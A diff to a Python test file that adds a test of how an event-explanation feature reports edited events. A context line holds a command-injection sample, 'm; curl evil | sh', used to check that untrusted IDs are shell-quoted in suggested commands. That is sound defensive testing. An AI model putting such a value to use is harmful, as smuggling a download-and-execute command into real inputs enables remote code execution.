@@ -7,7 +7,7 @@ from msgspec.structs import replace
 
 from milonga.destinations.registry import kind
 from milonga.eventlog.api import Position, Stored
-from milonga.outcomes.explain import Standing, story
+from milonga.outcomes.explain import Edit, Standing, story
 from milonga.outcomes.model import Outcome, State
 from milonga.outcomes.waiting import Behind, Waits
 from milonga.spec.stored import Stamped
@@ -166,3 +166,12 @@ def test_an_id_that_a_stranger_chose_is_quoted_in_the_commands_to_copy() -> None
     first, second = story(item, "web", [dead, behind])["destinations"]
     assert "`milonga dead resend 'm; curl evil | sh'`" in first["fix"]
     assert second["fix"] == "See `milonga explain -- --help`."
+
+
+def test_an_edited_event_is_told_by_what_was_sent_instead() -> None:
+    mended = Stamped(stored().event.stamp, BODY.replace(b"Saved", b"Paid"))
+    at = told(outcomes=[outcome(State.delivered)], edit=Edit(AT + 9_000, "user:ada", mended))
+    assert (at["edited"]["at"], at["edited"]["by"]) == ("2024-03-05T14:22:16.123Z", "user:ada")
+    assert at["edited"]["event"]["event"] == "Paid"
+    assert at["requests"][0]["body"]["sdr_a"] == "Paid"
+    assert "edited" not in told(outcomes=[outcome(State.delivered)])
